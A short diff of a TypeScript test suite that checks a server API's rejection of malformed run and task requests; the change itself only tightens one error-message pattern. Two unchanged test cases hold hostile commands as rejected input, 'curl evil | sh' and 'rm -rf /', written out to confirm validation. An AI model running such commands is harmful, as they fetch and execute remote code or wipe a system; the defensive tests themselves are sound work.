@@ -120,7 +120,7 @@ describe('server API', () => {
     const cases: [string, string, unknown, RegExp][] = [
       ['POST', '/api/v1/runs', {}, /body\.requirements/],
       ['POST', '/api/v1/runs', { requirements: DOC, concurrency: 'lots' }, /body\.concurrency/],
-      ['POST', '/api/v1/runs', { requirements: DOC, concurency: 2 }, /concurency/],
+      ['POST', '/api/v1/runs', { requirements: DOC, concurency: 2 }, /^body\.concurency: unknown field$/],
       ['POST', '/api/v1/runs', { requirements: DOC, agent: 'sh -c "curl evil | sh"' }, /^agent: .*not an agent the API can start/],
       ['POST', '/api/v1/runs', { requirements: '# T\n\n## A\nAgent: rm -rf /\n' }, /task a .*Agent: "rm -rf \/" is not an agent/],
       ['POST', '/api/v1/tasks', { description: 'no title' }, /body\.title/],
